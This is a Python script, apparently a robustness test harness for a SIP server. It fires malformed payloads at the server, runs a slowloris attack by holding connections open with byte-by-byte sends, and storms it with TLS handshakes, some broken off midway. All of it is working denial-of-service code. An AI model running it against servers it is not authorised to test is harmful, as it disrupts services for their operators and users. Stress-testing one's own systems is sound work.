#!/usr/bin/env python3
# streamattack - strangers on TCP and TLS: garbage, slow messages, storms of connections.
#
#   streamattack.py garbage HOST PORT COUNT [SEED]  each says something that is no SIP, and is to be closed
#   streamattack.py loris HOST PORT COUNT SECONDS   each sends a message byte by byte; how many are left?
#   streamattack.py storm HOST PORT COUNT SECONDS   TLS connections made and broken, COUNT at a time
#
# Prints what came of it as one JSON object.
import json
import os
import random
import selectors
import socket
import ssl
import sys
import threading
import time

MESSAGE = (b"OPTIONS sip:x@y SIP/2.0\r\nVia: SIP/2.0/TCP z;branch=z9hG4bKl\r\nFrom: <sip:a@b>;tag=1\r\n"
           b"To: <sip:c@d>\r\nCall-ID: loris\r\nCSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n")
AT_ONCE = 200


def garbage_of(rng):
    """Something hostile: binary, half a TLS hello, HTTP, broken framing, a huge length, many headers."""
    kinds = [
        lambda: rng.randbytes(rng.randrange(1, 3000)),
        lambda: b"\x16\x03\x01\x02\x00\x01" + rng.randbytes(500),
        lambda: b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        lambda: MESSAGE.replace(b"Content-Length: 0", b"Content-Length: 99999999999"),
        lambda: MESSAGE.replace(b"Content-Length: 0\r\n", b""),
        lambda: MESSAGE.replace(b"Content-Length: 0", b"Content-Length: 5\r\nContent-Length: 6"),
        lambda: b"INVITE sip:x SIP/2.0\r\n" + b"X-A: b\r\n" * 4000,
        lambda: b"\r\n" * rng.randrange(1, 1000) + rng.randbytes(64),
        lambda: MESSAGE[:rng.randrange(1, len(MESSAGE))],
        lambda: b"A" * 70000,
    ]
    return rng.choice(kinds)()


def opened(host, port):
    connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    connection.setblocking(False)
    connection.connect_ex((host, port))
    return connection


def garbage(host, port, count, seed=1):
    """Every one connects, says its piece and hangs up its side; what the far end answers is read."""
    rng, done, refused, waiting = random.Random(int(seed)), 0, 0, {}
    poll, begun, last = selectors.DefaultSelector(), 0, time.monotonic()
    while done < int(count) and time.monotonic() - last < 20:
        while len(waiting) < AT_ONCE and begun < int(count):
            connection = opened(host, port)
            waiting[connection] = garbage_of(rng)
            poll.register(connection, selectors.EVENT_WRITE)
            begun += 1
        for key, events in poll.select(1):
            connection, last = key.fileobj, time.monotonic()
            try:
                if events & selectors.EVENT_WRITE:
                    left = waiting[connection][connection.send(waiting[connection]):]
                    waiting[connection] = left
                    if not left:
                        connection.shutdown(socket.SHUT_WR)
                        poll.modify(connection, selectors.EVENT_READ)
                    continue
                if connection.recv(65536):
                    continue
            except OSError:
                refused += 1
            poll.unregister(connection)
            connection.close()
            del waiting[connection]
            done += 1
    return {"done": done, "reset": refused, "left": len(waiting)}


def is_alive(connection):
    try:
        return connection.recv(1) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def loris(host, port, count, seconds):
    connections = [opened(host, port) for _ in range(int(count))]
    end, at, alive = time.monotonic() + float(seconds), 0, []
    while time.monotonic() < end:
        alive = [one for one in connections if is_alive(one)]
        for one in alive:
            try:
                one.send(MESSAGE[at % (len(MESSAGE) - 4):][:1])
            except OSError:
                pass
        at += 1
        time.sleep(0.5)
    return {"opened": len(connections), "left": len(alive)}


def storm(host, port, count, seconds):
    """Handshakes as fast as threads can have them, every third one broken off in its middle."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    end, result, lock = time.monotonic() + float(seconds), {"shaken": 0, "broken": 0, "failed": 0}, \
        threading.Lock()

    def one(turn):
        with socket.create_connection((host, port), timeout=3) as connection:
            if turn % 3 == 0:
                connection.send(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
                return "broken"
            context.wrap_socket(connection).close()
            return "shaken"

    def run():
        turn = 0
        while time.monotonic() < end:
            turn += 1
            try:
                what = one(turn)
            except OSError:
                what = "failed"
            with lock:
                result[what] += 1

    threads = [threading.Thread(target=run, daemon=True) for _ in range(int(count))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return result


def main():
    modes = {"garbage": garbage, "loris": loris, "storm": storm}
    if len(sys.argv) < 5 or sys.argv[1] not in modes:
        sys.exit("usage: streamattack.py garbage|loris|storm HOST PORT COUNT [SECONDS|SEED]")
    host, port = sys.argv[2], int(sys.argv[3])
    print(json.dumps(modes[sys.argv[1]](host, port, *sys.argv[4:])), flush=True)
    os._exit(0)


main()
